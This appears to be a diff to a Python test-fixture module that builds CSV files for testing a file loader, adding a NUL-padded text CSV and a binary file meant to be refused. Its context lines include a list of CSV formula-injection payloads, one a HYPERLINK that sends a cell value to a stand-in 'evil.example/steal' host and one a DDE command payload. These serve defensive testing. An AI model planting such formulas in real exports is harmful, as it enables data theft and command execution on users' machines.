@@ -219,6 +219,20 @@ def _nul_bytes() -> bytes:
     return bytes(data) + b"\x00\x00"
 
 
+def _nul_padded() -> bytes:
+    """A fixed-width exporter's CSV: every field padded with NULs to 16 bytes, the file to a 4 KB block.
+    More than 30% of its first bytes are NUL, yet every other byte is text: it loads, the NULs removed."""
+    lines = [",".join(c.ljust(16, "\x00") for c in line.split(",")) for line in deals_csv(6).decode().split("\r\n")]
+    data = "\r\n".join(lines).encode()
+    return data + b"\x00" * (-len(data) % 4096)
+
+
+def _binary_nul_runs() -> bytes:
+    """A binary record format: random bytes between runs of NULs, mostly NUL.  Still refused as binary."""
+    rng = random.Random(2)
+    return b"".join(rng.randbytes(24) + b"\x00" * 40 for _ in range(64))
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")',
     "=cmd|' /C calc'!A0",
@@ -319,6 +333,8 @@ SMALL: dict[str, Callable[[], bytes]] = {
     "mixed_delimiters.csv": _mixed_delimiters,
     "ragged_rows.csv": _ragged_rows,
     "nul_bytes.csv": _nul_bytes,
+    "nul_padded.csv": _nul_padded,
+    "binary_nul_runs.csv": _binary_nul_runs,
     "formulas.csv": _formulas,
     "html_script.csv": html_script_csv,
     "sql_headers.csv": _sql_headers,
